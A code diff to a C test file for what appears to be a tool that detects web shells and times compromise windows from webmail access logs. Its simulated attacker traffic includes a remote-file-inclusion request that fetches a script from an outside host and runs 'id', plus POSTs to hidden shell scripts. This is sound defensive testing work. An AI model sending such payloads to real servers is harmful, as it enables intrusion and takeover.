@@ -48,6 +48,22 @@ static void http(bs_time ts, const char *client, const char *server, const char 
 	bs_agg_sink(A, &e);
 }
 
+/* A request as an access log shows it: method, URI and status, no body. */
+static void logged_http(bs_time ts, const char *client, const char *server, const char *method, const char *uri,
+                        int status, uint64_t txn)
+{
+	struct bs_event e;
+	base(&e, BS_EV_HTTP, ts, client, server);
+	e.origin.from_capture = false;
+	e.u.http.phase = BS_HTTP_COMPLETE;
+	e.u.http.txn_id = txn;
+	e.u.http.from_access_log = true;
+	e.u.http.method = S(method);
+	e.u.http.uri = S(uri);
+	e.u.http.status = status;
+	bs_agg_sink(A, &e);
+}
+
 static void addr(bs_time ts, const char *src, const char *dst, enum bs_addr_ctx ctx, uint64_t ref, const char *a, bool to_client)
 {
 	struct bs_event e;
@@ -367,6 +383,37 @@ int main(void)
 	is_int(rneg->nexposed, 0, "decoys only: nothing exposed");
 	bs_results_free(rneg);
 	bs_agg_free(neg);
+
+	/* access logs alone: a shell driven by a header or the raw body is
+	 * only `POST /x.php 200`; the attacker's successful requests to a
+	 * script only wm3 serves are use of the access, a new shell path
+	 * continues it; a 404 after the clean-up, the attacker's request to a
+	 * page every server serves and a user's POST to a script are not */
+	struct bs_agg *logs = bs_agg_new();
+	A = logs;
+	ref_counter = 0;
+	uint64_t t3 = 9000;
+	for (int d = 1; d <= 12; d++)
+		for (int s = 0; s < 3; s++) {
+			logged_http(T(d, 9, 0, s), "198.18.0.2", SERVERS[s], "GET", "/mail/index.php", 200, t3++);
+			logged_http(T(d, 9, 1, s), "198.18.0.2", SERVERS[s], "POST", "/mail/login.php", 200, t3++);
+		}
+	logged_http(T(4, 17, 31, 2), "203.0.113.66", SERVERS[2], "GET", "/mail/parse.php?file=http://203.0.113.66/x.txt?&cmd=id", 200, t3++);
+	logged_http(T(4, 17, 32, 0), "203.0.113.66", SERVERS[2], "POST", "/mail/tmp/.cache.php", 200, t3++);
+	logged_http(T(6, 16, 31, 7), "203.0.113.66", SERVERS[2], "POST", "/mail/tmp/.cache.php", 404, t3++);
+	logged_http(T(6, 16, 41, 7), "203.0.113.66", SERVERS[2], "POST", "/mail/imgs/.s.php", 200, t3++);
+	logged_http(T(9, 14, 31, 7), "203.0.113.66", SERVERS[2], "POST", "/mail/imgs/.s.php", 200, t3++);
+	logged_http(T(10, 19, 31, 7), "203.0.113.66", SERVERS[2], "GET", "/mail/imgs/.s.php", 404, t3++);
+	logged_http(T(11, 8, 0, 0), "203.0.113.66", SERVERS[2], "POST", "/mail/login.php", 200, t3++);
+	logged_http(T(12, 8, 0, 0), "198.18.0.2", SERVERS[2], "POST", "/mail/imgs/.s.php", 200, t3++);
+	struct bs_results *rl = correlate(logs, &cfg);
+	ok(rl->servers[2].signals & (1u << BS_SIG_WEBSHELL), "access logs alone: the web shell is found");
+	is_int(rl->servers[2].window_start, T(4, 17, 31, 2), "access logs alone: the window opens at the exploit");
+	is_int(rl->servers[2].window_end, T(9, 14, 31, 7),
+	       "access logs alone: the window ends with the attacker's last successful request to the new shell path");
+	is_int(rl->servers[0].window_end, BS_TIME_NONE, "access logs alone: no window on a clean server");
+	bs_results_free(rl);
+	bs_agg_free(logs);
 
 	/* no data for a server of the inventory */
 	struct bs_fleet_entry fleet2[2] = { { "wm1", IP("10.0.1.11"), "webmail" }, { "wm9", IP("10.0.1.99"), "webmail" } };
